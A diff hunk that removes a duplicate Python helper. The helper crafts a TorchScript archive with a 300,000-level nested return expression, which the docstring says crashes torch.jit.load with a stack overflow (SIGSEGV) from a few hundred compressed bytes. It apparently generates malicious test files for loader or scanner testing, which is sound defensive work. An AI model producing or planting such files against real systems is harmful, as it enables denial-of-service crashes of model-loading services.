@@ -316,29 +316,3 @@ def torchscript_parser_overflow(path: Path, depth: int = 300_000) -> Path:
                 data = re.sub(r"return [^\n]+", nested, data.decode(), count=1).encode()
             out.writestr(info.filename, data)
     return path
-
-
-def torchscript_parser_overflow(path: Path, depth: int = 300_000) -> Path:
-    """A TorchScript archive whose forward returns one expression nested ``depth`` parentheses deep.
-
-    torch.jit.load compiles the archive's code with a recursive-descent C++ parser, one native frame per
-    level: the stack overflows and the loading process dies of SIGSEGV (torch 2.13) — a real file that
-    crashes torch's own loader, no hook needed. The zip compresses the parentheses to a few hundred bytes."""
-    import io
-    import re
-    import zipfile
-
-    import torch
-
-    saved = io.BytesIO()
-    torch.jit.save(torch.jit.trace(torch.nn.Linear(4, 2).eval(), torch.zeros(1, 4)), saved)
-    nested = "return " + "(" * depth + "0" + ")" * depth
-    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
-        for info in src.infolist():
-            data = src.read(info.filename)
-            if "/code/" in info.filename and info.filename.endswith(".debug_pkl"):
-                continue        # its source ranges describe the original code
-            if "/code/" in info.filename and info.filename.endswith(".py") and b"def forward" in data:
-                data = re.sub(r"return [^\n]+", nested, data.decode(), count=1).encode()
-            out.writestr(info.filename, data)
-    return path
